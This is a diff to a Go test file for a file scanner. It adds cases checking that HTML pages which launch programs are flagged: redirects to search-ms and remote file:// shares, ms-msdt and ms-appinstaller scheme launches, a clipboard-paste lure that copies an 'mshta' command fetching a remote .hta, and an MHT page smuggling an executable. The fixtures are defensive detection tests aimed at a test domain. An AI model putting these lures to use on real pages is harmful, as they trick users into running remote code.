@@ -45,6 +45,37 @@ func TestPagesThatSmuggle(t *testing.T) {
 	}
 }
 
+func TestPagesThatLeadToPrograms(t *testing.T) {
+	const paste = `navigator.clipboard.writeText("mshta https://example.test/a.hta")`
+	for _, tt := range []struct {
+		name, page string
+		want       []string
+	}{
+		{"a search on another machine", `<html><meta http-equiv=refresh content="0; url='search-ms:query=a&crumb=location:\\example.test@80\a'"></html>`, []string{"url.file"}},
+		{"a file of another machine", `<html><meta http-equiv=refresh content="0;URL=file://example.test/a/a.lnk"></html>`, []string{"url.file"}},
+		{"a program by its scheme", `<html><script>location.href = "ms-msdt:/id PCWDiagnostic"</script></html>`, []string{"url.file"}},
+		{"an installer", `<html><a href="ms-appinstaller:?source=https://example.test/a.msix">Open</a></html>`, []string{"url.file"}},
+		{"a command to paste", `<html><button onclick='` + paste + `'>Copy</button></html>`, []string{"script.file", "script.suspicious"}},
+		{"an address to copy", `<html><script>function f(){navigator.clipboard.writeText("https://example.test/a?b=c")}</script></html>`, nil},
+		{"a command to read", `<html><pre>mshta https://example.test/a.hta</pre><script>b.onclick=()=>navigator.clipboard.writeText(p.innerText)</script></html>`, nil},
+		{"another page", `<html><meta http-equiv=refresh content="0; url=https://example.test/"></html>`, nil},
+		{"a file of this machine", `<html><a href="file:///C:/a/a.html">a</a><a href="file://server/share/a.xlsx">b</a></html>`, nil},
+	} {
+		_, r := scanNamed(t, "a.html", []byte(tt.page))
+		if diff := cmp.Diff(tt.want, lines(r)); diff != "" {
+			t.Errorf("%s: %s", tt.name, diff)
+		}
+	}
+}
+
+func TestSavedPagesThatSmuggle(t *testing.T) {
+	page := smuggling(zipOf(entry("a.exe", headerOf("PE\x00\x00", 2))), "paper.zip")
+	saved := "MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=b\r\n\r\n--b\r\nContent-Type: text/html\r\n\r\n" + page + "\r\n--b--\r\n"
+	if _, r := scanNamed(t, "a.mht", []byte(saved)); detailOf(r, finding.HTMLSmuggling) == "" {
+		t.Errorf("%v", r.Findings)
+	}
+}
+
 func TestPagesThatCarryWhatTheyShow(t *testing.T) {
 	pdf := []byte("%PDF-1.4\n" + strings.Repeat("% words\n", 20))
 	invoice := []byte("<?xml version=\"1.0\"?><Invoice>" + strings.Repeat("<Line/>", 30) + "</Invoice>")
